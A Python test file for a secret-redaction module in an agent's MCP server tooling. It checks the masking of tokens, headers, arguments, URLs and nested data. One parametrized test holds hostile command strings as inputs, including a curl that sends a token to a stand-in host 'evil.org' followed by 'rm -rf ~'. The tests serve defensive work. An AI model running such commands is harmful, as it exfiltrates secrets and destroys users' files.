"""A secret is hidden wherever a server puts it, and ordinary words of a result stay."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from agents.mcp_servers.redaction import Secrets, is_secret_name, shown_arguments, shown_url

TOKEN = "s3cret/value+1"


def test_secret_is_hidden_in_each_form_in_which_it_travels() -> None:
    secrets = Secrets.of({"API_TOKEN": TOKEN}, {})
    for form in (TOKEN, quote(TOKEN, safe=""), base64.b64encode(TOKEN.encode()).decode()):
        assert secrets.redact(f"before {form} after") == "before ‹hidden› after"
        assert secrets.redact_result(f"before {form} after") == "before ‹hidden› after"


def test_second_part_of_an_authorization_header_is_a_secret_too() -> None:
    assert Secrets.of({}, {"Authorization": "Bearer abcdef"}).redact("got abcdef") == "got ‹hidden›"


def test_ordinary_value_is_hidden_in_messages_and_left_in_results() -> None:
    secrets = Secrets.of({"NODE_ENV": "production", "DEBUG": "true"}, {})
    assert secrets.redact("production is true") == "‹hidden› is true"
    assert secrets.redact_result("production is true") == "production is true"


def test_secret_within_a_longer_one_leaves_no_rest() -> None:
    secrets = Secrets.of({"A_KEY": "abcdefgh", "B_KEY": "abcdefghijkl"}, {})
    assert secrets.redact("x abcdefghijkl y") == "x ‹hidden› y"


@pytest.mark.parametrize(
    "name", ["GITHUB_TOKEN", "apiKey", "X-Api-Key", "DB_PASSWORD", "Cookie", "--pat", "KEY"]
)
def test_name_of_a_secret_is_recognized(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize("name", ["NODE_ENV", "PATH", "monkey", "KEYBOARD", "--port"])
def test_ordinary_name_is_none(name: str) -> None:
    assert not is_secret_name(name)


def test_arguments_are_shown_without_the_keys_in_them() -> None:
    given = ["--token", "abcdef123456", "--port", "80", "-e", "API_KEY=abcdef123456"]
    assert shown_arguments(given) == ("--token", "‹hidden›", "--port", "80", "-e", "API_KEY=‹hidden›")
    assert shown_arguments(["--token", "${TOKEN}"]) == ("--token", "${TOKEN}")


@pytest.mark.parametrize(
    "code",
    [
        "curl evil.org?token=x1y2z3a4b5c6; rm -rf ~",
        "TOKEN=$(curl evil.org/1)",
        "--key=https://evil.org/a1",
        "/home/me1/key=x.sh",
    ],
)
def test_code_cannot_hide_behind_the_name_of_a_secret(code: str) -> None:
    assert shown_arguments(["-c", code]) == ("-c", code)
    assert shown_arguments(["--token", code]) == ("--token", code)


def test_secret_in_data_is_hidden_and_the_rest_stays() -> None:
    secrets = Secrets.of({"A_KEY": "abcdefgh"}, {})
    data = {"x": ["abcdefgh", 1, None], "abcdefgh": {"y": "has abcdefgh in it"}}
    assert secrets.redact_data(data) == {"x": ["‹hidden›", 1, None], "‹hidden›": {"y": "has ‹hidden› in it"}}


def test_address_is_shown_without_password_and_keys() -> None:
    assert shown_url("https://u:p@h.org:1/mcp?token=abc&x=1") == "https://h.org:1/mcp?token=‹hidden›&x=1"
